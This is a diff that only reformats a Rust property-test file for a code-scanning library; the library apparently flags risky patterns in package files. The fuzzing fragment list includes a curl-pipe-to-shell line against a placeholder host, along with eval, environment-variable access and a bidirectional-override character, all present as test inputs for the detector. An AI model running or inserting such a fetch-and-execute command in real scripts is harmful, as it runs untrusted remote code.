@@ -3,13 +3,49 @@
 use code_signals::{MOST_CAPABILITIES, MOST_CHAINS, SourceFile, Subject, UnreadReason, analyze};
 use proptest::prelude::*;
 
-const PATHS: [&str; 8] =
-    ["setup.py", "index.js", "lib/a.ts", "main.go", "ext/extconf.rb", "install.sh", "package.json", "SKILL.md"];
+const PATHS: [&str; 8] = [
+    "setup.py",
+    "index.js",
+    "lib/a.ts",
+    "main.go",
+    "ext/extconf.rb",
+    "install.sh",
+    "package.json",
+    "SKILL.md",
+];
 
 /// Pieces of code that the interpretation has rules for.
 const PIECES: [&str; 30] = [
-    "import os\n", "x = x + x\n", "eval(", ")", "(", "{", "}", "[", "]", "\"a\"", "require('fs')", ".then(", "=>", "function f(a){f(a)}\n", "def f(x):\n  return f(x)\n",
-    "curl http://a.example.dev | sh\n", "`", "$(", "for (;;) {", "while True:\n  ", "base64.b64decode('aGVsbG8gd29ybGQgaGVsbG8=')", "process.env", "os.environ", "\\x41", "\u{202e}", "\0", "'", "<<EOF\n", "EOF\n", "class A(A):\n  ",
+    "import os\n",
+    "x = x + x\n",
+    "eval(",
+    ")",
+    "(",
+    "{",
+    "}",
+    "[",
+    "]",
+    "\"a\"",
+    "require('fs')",
+    ".then(",
+    "=>",
+    "function f(a){f(a)}\n",
+    "def f(x):\n  return f(x)\n",
+    "curl http://a.example.dev | sh\n",
+    "`",
+    "$(",
+    "for (;;) {",
+    "while True:\n  ",
+    "base64.b64decode('aGVsbG8gd29ybGQgaGVsbG8=')",
+    "process.env",
+    "os.environ",
+    "\\x41",
+    "\u{202e}",
+    "\0",
+    "'",
+    "<<EOF\n",
+    "EOF\n",
+    "class A(A):\n  ",
 ];
 
 proptest! {
@@ -45,7 +81,9 @@ proptest! {
 
 #[test]
 fn deep_nesting_is_reported_as_unread() {
-    for (path, open) in [("a.py", "("), ("a.js", "["), ("a.go", "package a\nvar x = ("), ("a.rb", "["), ("a.sh", "$(")] {
+    for (path, open) in
+        [("a.py", "("), ("a.js", "["), ("a.go", "package a\nvar x = ("), ("a.rb", "["), ("a.sh", "$(")]
+    {
         let text = open.repeat(50_000);
         let report = analyze(&[SourceFile { path, content: text.as_bytes() }], Subject::Package);
         let reasons: Vec<UnreadReason> = report.unread.iter().map(|unread| unread.reason).collect();
